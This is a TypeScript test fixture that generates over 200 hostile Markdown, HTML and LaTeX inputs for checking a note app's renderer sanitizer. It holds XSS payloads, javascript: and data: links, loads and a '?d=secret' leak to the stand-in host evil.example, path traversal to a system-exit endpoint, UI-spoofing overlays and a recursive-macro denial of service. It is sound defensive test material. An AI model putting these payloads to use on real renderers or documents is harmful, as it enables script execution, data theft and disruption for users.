/** What a model, or a note that it read, could write to run code, fetch something, leave the page or dress up as the host. */
const PAYLOADS: readonly string[] = [
  '<script>fire(1)</script>',
  '<img src=x onerror=fire(1)>',
  '<img src="https://evil.example/i.png">',
  '<img srcset="https://evil.example/i.png 1x, https://evil.example/j.png 2x">',
  '<svg onload=fire(1)><use href="https://evil.example/s.svg#x"></use></svg>',
  '<svg><style><img src=x onerror=fire(1)></style></svg>',
  '<math><mi xlink:href="javascript:fire(1)">x</mi><annotation-xml encoding="text/html"><img src=x onerror=fire(1)></annotation-xml></math>',
  '<iframe srcdoc="<script>parent.fire(1)</script>" src="https://evil.example/f"></iframe>',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  '<a href="javascript:fire(1)" ping="https://evil.example/p" onclick="fire(1)">go</a>',
  '<a href="&#x6A;ava&Tab;script:fire(1)">go</a>',
  '<form action="javascript:fire(1)"><input type=image src="https://evil.example/b.png" formaction="javascript:fire(1)"></form>',
  '<video poster="https://evil.example/p.png" autoplay><source src="https://evil.example/v" onerror=fire(1)></video>',
  '<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example/x">',
  '<style>@import url(https://evil.example/x.css); * { background: url(https://evil.example/bg.png) }</style>',
  '<div style="background-image:url(https://evil.example/bg.png);position:fixed;inset:0;z-index:9999">x</div>',
  '<table background="https://evil.example/t.png"><tr><td background="https://evil.example/t.png">x</td></tr></table>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/">',
  '<details open ontoggle=fire(1)><summary onfocus=fire(1) tabindex=0 autofocus>x</summary></details>',
  '<p id="commonMenu" class="b3-menu" data-node-id="20260412093011-abc1234" data-block-id="20260412093011-abc1234" contenteditable>x</p>',
  '<b onmouseover=fire(1) style="animation:x" onanimationstart=fire(1)>x</b>',
  '<x-element onclick=fire(1) is="x-y"><template shadowrootmode=open><img src=x onerror=fire(1)></template></x-element>',
  '"><img src=x onerror=fire(1)><"',
  "'><svg/onload=fire(1)//",
  '--><img src=x onerror=fire(1)><!--',
  '</code></pre></p></li></td></table><img src=x onerror=fire(1)>',
];

/** Addresses that a Markdown link, picture or definition may hold. */
const ADDRESSES: readonly string[] = [
  'javascript:fire(1)',
  'JaVaScRiPt:fire(1)',
  'java&#x0A;script:fire(1)',
  '&#106;avascript:fire(1)',
  'vbscript:fire(1)',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuZmlyZSgxKTwvc2NyaXB0Pg==',
  'https://evil.example/"onerror="fire(1)',
  'https://evil.example/?d=secret',
  '//evil.example/i.png',
  '/api/system/exit',
  'assets/../api/system/exit',
  'assets/x.png"onerror="fire(1)',
  'siyuan://plugins/other?do=harm',
  'blob:https://evil.example/x',
];

/** Ways of Markdown to carry HTML. */
const HTML_CARRIERS: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `Text before ${payload} and after.`,
  (payload) => `- item\n  - ${payload}\n\n  ${payload}`,
  (payload) => `> ${payload}\n\n1. ${payload}`,
  (payload) => `| a | b |\n| - | - |\n| ${payload.replaceAll('|', '')} | \`${payload.replaceAll('|', '')}\` |`,
  (payload) => `# ${payload}\n\n**${payload}** ~~${payload}~~`,
  (payload) => `\`\`\`html\n${payload}\n\`\`\`\n\n    ${payload}`,
  (payload) => `[${payload}](https://a.example "${payload}") ![${payload}](assets/a.png "${payload}")`,
  (payload) => `((20260412093011-abc1234 "${payload}")) $${payload.replaceAll('$', '')}$`,
  (payload) => `$$\n${payload}\n$$\n\n\\(${payload}\\)`,
  (payload) => `${payload}\n\n${payload.slice(0, payload.length / 2)}`,
  (payload) => `<b>${payload}</sub><kbd>${payload}`,
];

/** Ways of Markdown to name an address. */
const ADDRESS_CARRIERS: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}> "title")`,
  (address) => `![x](${address})`,
  (address) => `![x](<${address}>)`,
  (address) => `[x][r] ![x][r]\n\n[r]: ${address}`,
  (address) => `[![x](${address})](${address})`,
  (address) => `<${address}>`,
];

/** Formulas that a renderer which trusts its input would turn into links and pictures. */
const FORMULAS: readonly string[] = [
  String.raw`\href{javascript:fire(1)}{x}`,
  String.raw`\url{javascript:fire(1)}`,
  String.raw`\includegraphics{https://evil.example/i.png}`,
  String.raw`\htmlClass{b3-dialog__scrim}{x}`,
  String.raw`\htmlId{commonMenu}{x}`,
  String.raw`\htmlStyle{position:fixed;inset:0;background:url(https://evil.example/bg.png)}{x}`,
  String.raw`\htmlData{node-id=20260412093011-abc1234}{x}`,
  String.raw`\def\x{\x\x}\x`,
  String.raw`\rule{9999em}{9999em} \kern{-9999em}`,
  String.raw`\text{<img src=x onerror=fire(1)>}`,
];

/** More than 200 texts: each payload in each carrier. */
export const hostileInputs: readonly string[] = [
  ...HTML_CARRIERS.flatMap((carry) => PAYLOADS.map(carry)),
  ...ADDRESS_CARRIERS.flatMap((carry) => ADDRESSES.map(carry)),
  ...FORMULAS.flatMap((tex) => [`$${tex}$`, `$$\n${tex}\n$$`]),
];
